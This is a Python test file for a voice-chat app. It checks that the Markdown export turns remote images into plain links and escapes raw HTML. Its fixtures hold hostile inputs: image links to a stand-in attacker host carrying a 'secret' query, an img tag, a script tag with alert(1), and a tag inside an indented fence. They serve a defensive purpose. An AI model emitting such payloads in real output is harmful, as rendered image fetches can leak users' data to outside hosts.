"""The Markdown export is read in other viewers (GitHub, an editor's preview), which render images and raw
HTML the chat never does: it drops remote images (made text links, as on the chat page) and writes tags as
text, while code blocks and ordinary text stay as they were."""

from __future__ import annotations

from voicechat import export
from voicechat.rendering import without_raw_html
from voicechat.storage.store import Store

HOSTILE = (
    "Here ![chart](https://evil.example/c.png?q=secret) and ![ref][1]\n\n[1]: https://evil.example/r.png\n\n"
    '<img src="https://evil.example/i.png"> <script>alert(1)</script> <!-- hidden -->\n'
    "and <a href='https://evil.example'>a link</a>, 2 < 3, [docs](https://ok.example)"
)
CODE = "```html\n<img src=x>\n```"


def test_the_markdown_export_drops_remote_images_and_raw_html(store: Store) -> None:
    user = store.users.get_or_create(email="x@example.com", name="X")
    conv = store.conversations.create(owner_id=user.id, title="![t](https://evil.example/t.png)")
    for content in (HOSTILE, CODE):
        store.conversations.add_message(
            owner_id=user.id, conversation_id=conv.id, role="assistant", content=content
        )
    conversation = store.conversations.get(owner_id=user.id, conversation_id=conv.id)
    messages = list(export.iter_messages(store.conversations, owner_id=user.id, conversation_id=conv.id))

    markdown = export.to_markdown(conversation, messages)

    body = markdown.replace(CODE, "")
    assert "![" not in body  # no image anywhere, the title's included
    assert "[Image: chart](https://evil.example/c.png?q=secret)" in body  # a link to follow, not a fetch
    for tag in ("<img", "<script", "</script", "<!--", "<a "):
        assert tag not in body, tag
    assert "&lt;img src=" in body and "&lt;script>alert(1)&lt;/script>" in body  # shown, as text
    assert "2 < 3, [docs](https://ok.example)" in body  # ordinary text and links unchanged
    assert CODE in markdown  # a code block shows tags as text already: kept exactly


def test_an_indented_fence_in_a_list_item_does_not_shield_a_tag() -> None:
    tricky = "- item\n  ```\n<img src=https://evil.example/?q=secret>\n"
    assert "<img" not in without_raw_html(tricky)
